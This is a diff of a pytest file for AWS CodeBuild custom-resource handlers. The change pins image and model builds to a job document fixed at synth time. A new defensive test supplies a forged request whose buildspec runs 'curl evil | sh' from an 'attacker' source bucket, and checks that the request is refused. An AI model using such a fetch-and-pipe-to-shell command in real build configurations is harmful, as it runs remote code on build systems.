@@ -13,6 +13,7 @@ from botocore.stub import ANY
 from handler_helpers import start_handle, stubbed_clients
 
 from stacks import config
+from stacks.handlers import build_jobs
 from stacks.handlers import codebuild_job as job
 from stacks.handlers.wait_signal import SignalError
 from stacks.synth import cdk_json_context
@@ -52,6 +53,7 @@ def aws(monkeypatch: pytest.MonkeyPatch) -> Iterator[dict[str, Any]]:
         "POLL_SECONDS": "30",
         "START_RETRY_MINUTES": str(config.BUILD_START_RETRY_MINUTES),
         "DEADLINE_GRACE_MINUTES": str(config.BUILD_DEADLINE_GRACE_MINUTES),
+        build_jobs.ENV: json.dumps(JOBS),
     }.items():
         monkeypatch.setenv(name, value)
     clients, stubs = stubbed_clients()
@@ -65,18 +67,7 @@ def image_props(handle_url: str, **overrides: Any) -> dict[str, Any]:
     return {
         "ServiceToken": "arn:aws:lambda:us-east-1:123456789012:function:provider",
         "Kind": "Image",
-        "ProjectName": "ImageBuild",
-        "SourceBucket": "cdk-assets",
-        "SourceKey": "abc.zip",
-        "RepositoryName": "decider-images",
-        "RepositoryUri": REPO_URI,
         "ImageTag": "cpu-abc",
-        "Variant": "cpu",
-        "ComputeType": "BUILD_GENERAL1_LARGE",
-        "TimeoutMinutes": "60",
-        "QueuedTimeoutMinutes": "60",
-        "BuildArgs": "",
-        "Buildspec": "version: 0.2\nphases: {}\n",
         "WaitHandle": handle_url,
         "ImageSource": "auto",
         "DeployedImageParameter": PARAMETER,
@@ -87,7 +78,6 @@ def image_props(handle_url: str, **overrides: Any) -> dict[str, Any]:
 MODEL_PROPS = {
     "ServiceToken": "arn:aws:lambda:us-east-1:123456789012:function:provider",
     "Kind": "Model",
-    "ProjectName": "ModelStaging",
     "Bucket": "artifacts",
     "Prefix": "models/org/repo/rev/13c16f426047/",
     "Repository": "org/repo",
@@ -95,10 +85,36 @@ MODEL_PROPS = {
     "File": "model.gguf",
     "SizeBytes": "3013027808",
     "Sha256": "13c16f42" + "0" * 52 + "a983",
-    "TimeoutMinutes": "25",
-    "QueuedTimeoutMinutes": "10",
-    "Buildspec": "version: 0.2\nphases: {}\n",
 }
+
+
+def _recipe(compute: str, build_args: str = "") -> dict[str, str]:
+    return build_jobs.image_recipe(
+        variant="cpu",
+        build_args=build_args,
+        compute_type=compute,
+        timeout_minutes=60,
+        queued_timeout_minutes=45,
+    )
+
+
+# What ImageStack fixes at synth (its functions' BUILD_JOBS): the only builds a request can get.
+JOBS = build_jobs.document(
+    image_project="ImageBuild",
+    repository_name="decider-images",
+    repository_uri=REPO_URI,
+    images={
+        "cpu-abc": _recipe("BUILD_GENERAL1_LARGE", "PYTHON_IMAGE=mirror/python:3.11\nX=1"),
+        "cpu-big": _recipe("BUILD_GENERAL1_2XLARGE"),
+    },
+    model_project="ModelStaging",
+    model={
+        **{k: v for k, v in MODEL_PROPS.items() if k in build_jobs.MODEL_FIELDS},
+        "TimeoutMinutes": "25",
+        "QueuedTimeoutMinutes": "10",
+    },
+    archive_key="models/org/repo/rev/13c16f426047-batch-transform/model.tar.gz",
+)
 MODEL_KEY = MODEL_PROPS["Prefix"] + "model.gguf"
 LEGACY_ARCHIVE_KEY = MODEL_PROPS["Prefix"] + "model.tar.gz"  # where an earlier version put the archive
 
@@ -132,6 +148,9 @@ def build(status: str, **fields: Any) -> dict[str, Any]:
         "id": "ModelStaging:1234",
         "buildStatus": status,
         "startTime": STARTED,
+        # the limits StartBuild gave it (the model job's: 10 min queue + 25 min build)
+        "queuedTimeoutInMinutes": 10,
+        "timeoutInMinutes": 25,
         "logs": {"deepLink": "https://console.aws.amazon.com/cloudwatch/logs"},
         **fields,
     }
@@ -156,20 +175,17 @@ def env_of(request: dict[str, Any]) -> dict[str, str]:
 # --- image: start, reuse, keep ----------------------------------------------------------------------
 
 
-def test_image_build_starts_with_the_source_buildspec_timeouts_and_wait_handle(aws, handle):
+def test_image_build_starts_with_the_synthesized_recipe_and_the_wait_handle(aws, handle):
     no_pinned_image(aws)
     no_such_tag(aws)
-    props = image_props(handle.url, BuildArgs="PYTHON_IMAGE=mirror/python:3.11\nX=1")
+    props = image_props(handle.url)
     aws["codebuild"].add_response(
         "start_build",
         {"build": {"id": "ImageBuild:1234"}},
-        expected_params={
+        expected_params={  # no buildspec, source or project from the request: the project's own
             "projectName": "ImageBuild",
             "timeoutInMinutesOverride": 60,
-            "queuedTimeoutInMinutesOverride": 60,
-            "buildspecOverride": props["Buildspec"],
-            "sourceTypeOverride": "S3",
-            "sourceLocationOverride": "cdk-assets/abc.zip",
+            "queuedTimeoutInMinutesOverride": 45,
             "computeTypeOverride": "BUILD_GENERAL1_LARGE",
             "environmentVariablesOverride": [
                 {"name": "REPOSITORY_URI", "value": REPO_URI, "type": "PLAINTEXT"},
@@ -196,11 +212,9 @@ def test_image_build_starts_with_the_source_buildspec_timeouts_and_wait_handle(a
     assert done == {"IsComplete": True, "Data": {"BuildId": "ImageBuild:1234", "Source": "build"}}
 
 
-@pytest.mark.parametrize(
-    ("compute", "cache_off"), [("BUILD_GENERAL1_2XLARGE", True), ("BUILD_GENERAL1_LARGE", False)]
-)
-def test_2xlarge_builds_run_without_the_local_cache(compute, cache_off):
-    request = job.build_request(image_props("https://h", ComputeType=compute), REQUEST_ID)
+@pytest.mark.parametrize(("tag", "cache_off"), [("cpu-big", True), ("cpu-abc", False)])
+def test_2xlarge_builds_run_without_the_local_cache(aws, tag, cache_off):
+    request = job.build_request(image_props("https://h", ImageTag=tag), REQUEST_ID)
     assert ("cacheOverride" in request) is cache_off
     if cache_off:
         assert request["cacheOverride"] == {"type": "NO_CACHE"}
@@ -323,6 +337,36 @@ def test_a_record_of_a_source_build_does_not_pin(aws, handle):
     no_such_tag(aws)
     aws["codebuild"].add_response("start_build", {"build": {"id": "ImageBuild:10"}})
     assert job.on_event(event("Create", image_props(handle.url)), clients=aws["clients"])["Data"]["BuildId"]
+
+
+def test_a_request_for_a_tag_the_app_did_not_synthesize_builds_nothing(aws, handle):
+    """Anything that can invoke the provider can send a request: its buildspec, project, source and
+    build arguments are ignored (not even read), and a tag ImageStack was not deployed with is refused
+    before any AWS call."""
+    no_pinned_image(aws)
+    forged = image_props(
+        handle.url,
+        ImageTag="cpu-forged",
+        ProjectName="ImageBuild",
+        Buildspec="version: 0.2\nphases: {build: {commands: [curl evil | sh]}}\n",
+        SourceBucket="attacker",
+        SourceKey="payload.zip",
+    )
+    with pytest.raises(build_jobs.UnknownJobError, match=r"cpu-forged is not one ImageStack.*cpu-abc"):
+        job.on_event(event("Create", forged), clients=aws["clients"])
+    assert handle.signals == []
+    request = job.build_request(image_props(handle.url, Buildspec="evil", BuildArgs="X=evil"), REQUEST_ID)
+    assert "buildspecOverride" not in request and "sourceLocationOverride" not in request
+    assert env_of(request)["EXTRA_BUILD_ARGS"] == "PYTHON_IMAGE=mirror/python:3.11\nX=1"
+
+
+@pytest.mark.parametrize(
+    ("field", "value"), [("Repository", "attacker/model"), ("Sha256", "0" * 64), ("Bucket", "elsewhere")]
+)
+def test_a_model_the_app_does_not_pin_is_not_staged(aws, field, value):
+    aws["s3"].add_client_error("head_object", "404", http_status_code=404)
+    with pytest.raises(build_jobs.UnknownJobError, match=field):
+        job.on_event(event("Create", {**MODEL_PROPS, field: value}), clients=aws["clients"])
 
 
 def test_a_handle_that_refuses_the_signal_fails_the_resource(aws, handle):
@@ -473,7 +517,6 @@ def test_model_with_another_hash_is_staged_again(aws):
             "projectName": "ModelStaging",
             "timeoutInMinutesOverride": 25,
             "queuedTimeoutInMinutesOverride": 10,
-            "buildspecOverride": MODEL_PROPS["Buildspec"],
             "environmentVariablesOverride": ANY,
         },
     )
